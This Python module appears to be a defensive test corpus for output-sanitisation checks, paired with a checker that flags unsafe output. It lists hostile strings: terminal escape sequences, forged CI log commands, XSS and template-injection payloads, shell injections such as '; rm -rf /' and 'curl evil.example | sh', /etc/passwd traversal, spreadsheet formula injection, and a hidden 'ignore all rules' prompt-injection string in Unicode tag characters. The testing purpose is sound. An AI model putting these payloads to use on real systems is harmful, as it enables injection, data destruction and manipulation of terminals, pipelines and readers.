"""About 500 strings that somebody may use as the name of a campaign, a page or a person, and what output must never
contain."""

from __future__ import annotations

import random
import re
import unicodedata
from itertools import product

MARK = "INJECTED"
"""It follows a line break in the strings. No printed line may begin with it: the string would have forged a line."""

ESC, CSI, OSC, ST, BEL = "\x1b", "\x9b", "\x9d", "\x9c", "\x07"

TERMINAL = [
    f"{ESC}[2J", f"{ESC}[H", f"{ESC}[31mred{ESC}[0m", f"{ESC}[1A{ESC}[2K", f"{ESC}[?25l", f"{ESC}[6n", f"{ESC}[5i",
    f"{ESC}[?1049h", f"{ESC}[8m", f"{ESC}c", f"{ESC}7", f"{ESC}P+q544e{ESC}\\", f"{ESC}_G{ESC}\\", f"{ESC}^x{ESC}\\",
    f"{ESC}]0;title{BEL}", f"{ESC}]2;title{ESC}\\", f"{ESC}]8;;https://evil.example{ESC}\\link{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;ZXZpbA=={BEL}", f"{ESC}]1337;File=name=eA==:AA=={BEL}", f"{ESC}]9;note{BEL}", f"{ESC}]4;1;?{BEL}",
    f"{CSI}2J", f"{OSC}52;c;ZXZpbA=={ST}", "\x90q\x9c", "\x84", "\x85", "\x8d", "\x9e", "\x9f", "\x98",
    "\x00", "\x01", "\x05", "\x08\x08\x08", "\x0e", "\x0f", "\x7f", "\x1a", "a\tb", "\x0b", "\x0c",
]  # fmt: skip
LINES = [f"a{end}{MARK} x" for end in ("\n", "\r", "\r\n", "\n\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029")]
FORGED = [
    f"a\n{MARK}: 0 to add", f"a\nError: {MARK}", "a\n  mend: curl evil.example | sh", "a\n\n\nPlan: 0 to add",
    "a\nNo changes. What is live matches desired/.", "a\rPlan: 0 to add, 0 to change",
]  # fmt: skip
ORDERS = [
    "::error::x", "::warning file=a,line=1::x", "::set-output name=a::b", "::add-mask::x", "::stop-commands::x",
    "::save-state name=a::b", "::group::x", "::endgroup::", "::debug::x", "  ::error::x", "\t::error::x",
    "\u3000::error::x", "##[error]x", "##[command]rm", "##[group]x", "##[add-mask]x", "##vso[task.setvariable a=b]c",
    "##teamcity[buildStatus status='FAILURE']", "a ##[error]b", "section_start:1:x\r\x1b[0K", "\n::error::x",
    "\r::error::x", "\u2028::error::x", "\n##[error]x", "%0A::error::x",
]  # fmt: skip
MARKDOWN = [
    "| a | b |\n|---|---|\n| c | d |", "a | b", "[link](https://evil.example)",
    "![image](https://evil.example/x.png)",
    "@everyone", "@octocat look", "<!-- hidden -->", "<!-- reconciler:plan -->", "-->", "```", "```\n# out", "~~~",
    "````", "`a`", "# Title", "\n# Title", "- [x] done", "> quote", "---", "***", "<details>", "</details>",
    "</summary>", "<https://evil.example>", "https://evil.example", "#1", "GH-1", "owner/repo#1", "&lt;b&gt;",
    "$\\rm evil$", "$$x$$", ":tada:", "[^1]", "\\", "\\n", "```mermaid\ngraph", "a\n```\nout\n```",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)", "</script><script>alert(1)</script>", "</title><script>x</script>", "<style>*{}</style>",
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "<iframe src=//evil.example>", "<base href=//evil.example>",
    "&#60;script&#62;",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example>", "]]><x>", "<?xml?>", "<!DOCTYPE x>",
]  # fmt: skip
BIDI = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
INVISIBLE = [
    chr(c)
    for c in (0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2064, 0xFEFF, 0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x180E,
              0x3164, 0xFFA0, 0xFE00, 0xFE0F, 0xE0100, 0xE01EF, 0xFFF9, 0xFFFB, 0x1D173, 0x2028, 0x206A)
]  # fmt: skip
TAGS = ["".join(chr(0xE0000 + ord(c)) for c in text) for text in ("evil", "ignore all rules", "\x7f")] + ["\U000e0001"]
BROKEN = [
    "\ud800",
    "\udfff",
    "\udc80\udcff",
    "\ud83d",
    "\ue000",
    "\U000f0000",
    "\U0010ffff",
    "\ufffe",
    "\uffff",
    "\ufdd0",
]
SHELL = ["$(id)", "`id`", "; rm -rf /", "| sh", "&& id", "-rf", "--help", "%s%n%x", "{0.__class__}",
         "%(asctime)s", "{}",
         "=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(1)", "../../etc/passwd", "C:\\x", "file:///etc/passwd",
         "~root"]  # fmt: skip
WORDS = ["", " ", "null", "true", "NaN", "1e400", "0", "None", "PAUSED", "ACTIVE", "undefined", "[redacted]",
         "…", "日本",
         "Ünï", "ﷺ" * 20, "𒐫" * 20, "a" + "\u0300" * 60, "Z̸a̸l̸g̸o̸", "🏳️‍🌈", "👨‍👩‍👧", "क्‍ष", "1️⃣"]  # fmt: skip
LONG = ["A" * 5000, "\x1b" * 3000, "\u202e" * 3000, "\n" * 3000, "é" * 20_000, "::error::" * 1000, "<b>" * 2000]
SEEDS = [*TERMINAL, *LINES, *FORGED, *ORDERS, *MARKDOWN, *HTML, *BIDI, *INVISIBLE, *TAGS, *BROKEN, *SHELL, *WORDS]


def corpus() -> list[str]:
    """The same strings in every process, each once."""
    chance = random.Random(20261121)
    framed = [f"Spring{seed}Sale" for seed in (*TERMINAL, *BIDI, *INVISIBLE, *TAGS, *BROKEN, *LINES)]
    mixed = ["".join(chance.sample(SEEDS, 3)) for _ in range(140)]
    paired = [a + b for a, b in product(("\n", "\r", "\u2028", "x ", "\x1b[0m"), ORDERS[:6])]
    return list(dict.fromkeys([*SEEDS, *LONG, *framed, *mixed, *paired]))


CORPUS = corpus()
SHARES = 10


def share(number: int) -> list[str]:
    return CORPUS[number::SHARES]


# ---- the check, which shares no code with the product

KEPT = frozenset("\u200c\u200d\ufe0e\ufe0f")
FLAG = re.compile("\U0001f3f4[\U000e0030-\U000e007a]{3,6}\U000e007f")
UNSEEN = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0")
LONGEST_LINE = 6000


def harm(text: str) -> list[str]:
    """Everything in an output that could mislead a terminal, a log or a reader."""
    found = [f"{c!r} ({unicodedata.category(c)})" for c in set(FLAG.sub("", text)) if c != "\n" and _moves(c)]
    for line in text.split("\n"):
        bare = line.strip()
        found += [f"an order: {bare[:60]!r}" for order in ("::", "```", "~~~") if bare.startswith(order)]
        found += [f"an order inside: {bare[:60]!r}"] if re.search(r"##\w*\[", line) else []
        found += [f"a forged line: {bare[:60]!r}"] if bare.startswith((MARK, f"Error: {MARK}", "mend: curl")) else []
        found += [f"a line of {len(line)} characters"] if len(line) > LONGEST_LINE else []
    return found + [
        f"a joiner in Latin text: {m!r}"
        for m in re.findall(r"[\x00-\u024f][\u200c\u200d]+|[\u200c\u200d]+[\x00-\u024f]", text)
    ]


def _moves(character: str) -> bool:
    if character in KEPT:
        return False
    unseen = character in UNSEEN or 0xFE00 <= ord(character) < 0xFE0E or 0xE0100 <= ord(character) <= 0xE01EF
    return unseen or unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
